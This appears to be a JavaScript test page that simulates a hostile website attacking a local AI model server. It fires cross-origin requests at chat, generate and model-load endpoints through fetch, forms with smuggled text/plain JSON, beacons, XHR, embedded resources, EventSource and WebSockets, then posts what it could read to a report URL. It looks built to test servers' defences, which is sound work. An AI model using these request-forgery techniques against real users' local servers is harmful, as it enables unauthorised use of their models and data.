// What a hostile page tries. `query` says: kind and name of the page, target, attempts, and where to report.
// Each attempt ends with the text that the page could read of the answer, "" where it could read none.
const QUESTION = '{"prompt":"x","messages":[{"role":"user","content":"x"}],"max_tokens":1,"stream":false}';
const PATIENCE_MS = 5000;
const READ = "/v1/models", ASK = "/v1/chat/completions", COMPLETE = "/api/generate";

const at = (path, attempt) => `${query.target}${path}?case=${query.kind}:${query.name}:${attempt}`;
const post = (attempt, options) => fetch(at(ASK, attempt), { method: "POST", body: QUESTION, ...options });
const typed = (type) => ({ headers: { "content-type": type } });
const parts = () => { const form = new FormData(); form.append("prompt", QUESTION); return form; };
const read = (answer) => answer.text();

function loaded(tag, attribute, address) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = element.onerror = () => resolve(inside(element));
    element[attribute] = address;
    if (tag === "link") element.rel = "stylesheet";
    document.body.append(element);
  });
}

function inside(element) {
  try { return element.contentDocument?.body.innerText ?? ""; } catch { return ""; }
}

function submitted(method, encoding, attempt) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  const [name, value] = encoding === "text/plain" ? [QUESTION.slice(0, -1) + ',"a":"', '"}'] : ["prompt", QUESTION];
  frame.name = form.target = `target-${attempt}`;
  Object.assign(form, { method, enctype: encoding, action: at(COMPLETE, attempt) });
  // the action of a GET form loses its query: the fields make a new one
  const fields = method === "get" ? [["case", `${query.kind}:${query.name}:${attempt}`]] : [[name, value]];
  for (const [field, held] of fields) form.append(Object.assign(document.createElement("input"), { name: field, value: held }));
  document.body.append(frame, form);
  return new Promise((resolve) => { frame.onload = () => resolve(inside(frame)); form.submit(); });
}

function streamed(attempt) {
  return new Promise((resolve) => {
    const events = new EventSource(at(READ, attempt));
    events.onmessage = (event) => resolve(event.data);
    events.onopen = () => resolve("opened");
    events.onerror = () => { events.close(); resolve(""); };
  });
}

function connected(attempt) {
  return new Promise((resolve) => {
    const socket = new WebSocket(new URL(at(READ, attempt), location.origin === "null" ? undefined : location.href).href.replace(/^http/, "ws"));
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve("");
  });
}

function requested(attempt) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => resolve(request.responseText);
    request.open("POST", at(COMPLETE, attempt));
    request.send(QUESTION);
  });
}

const sent = (attempt, data) => { navigator.sendBeacon(at(ASK, attempt), data); return ""; };

const ATTEMPTS = {
  "fetch": (name) => fetch(at(READ, name)).then(read),
  "fetch-opaque": (name) => post(name, { mode: "no-cors" }).then(read),
  "fetch-json": (name) => post(name, typed("application/json")).then(read),
  "fetch-text": (name) => post(name, typed("text/plain")).then(read),
  "fetch-form": (name) => post(name, { body: new URLSearchParams({ prompt: QUESTION }) }).then(read),
  "fetch-parts": (name) => post(name, { body: parts() }).then(read),
  "keepalive": (name) => post(name, { keepalive: true, mode: "no-cors" }).then(read),
  "load": (name) => fetch(at("/api/localllm/load", name), { method: "POST", body: '{"model":""}' }).then(read),
  "request": requested,
  "beacon": (name) => sent(name, QUESTION),
  "beacon-form": (name) => sent(name, parts()),
  "form-text": (name) => submitted("post", "text/plain", name),
  "form-coded": (name) => submitted("post", "application/x-www-form-urlencoded", name),
  "form-parts": (name) => submitted("post", "multipart/form-data", name),
  "form-get": (name) => submitted("get", "application/x-www-form-urlencoded", name),
  "image": (name) => loaded("img", "src", at(READ, name)),
  "script": (name) => loaded("script", "src", at(READ, name)),
  "style": (name) => loaded("link", "href", at(READ, name)),
  "frame": (name) => loaded("iframe", "src", at(READ, name)),
  "events": streamed,
  "socket": connected,
};

async function attack() {
  const told = {};
  for (const name of query.attempts.split(",")) {
    const late = new Promise((resolve) => setTimeout(resolve, PATIENCE_MS, ""));
    told[name] = await Promise.race([Promise.resolve(ATTEMPTS[name](name)).catch(() => ""), late]);
  }
  const body = JSON.stringify({ page: `${query.kind}:${query.name}`, origin: self.origin, told });
  await fetch(query.report, { method: "POST", mode: "no-cors", body });
}

async function openOthers() {
  for (const [name, address] of Object.entries(JSON.parse(query.frames))) {
    const frame = document.createElement("iframe");
    const how = name.split(":")[1];
    if (how === "sandboxed" || how === "srcdoc") frame.sandbox = "allow-scripts allow-forms";
    const text = how === "data" || how === "srcdoc" ? await (await fetch(address)).text() : "";
    if (how === "srcdoc") frame.srcdoc = text;
    else frame.src = how === "data" ? "data:text/html;charset=utf-8," + encodeURIComponent(text) : address;
    document.body.append(frame);
  }
}

if (query.kind === "top") openOthers(); else attack();
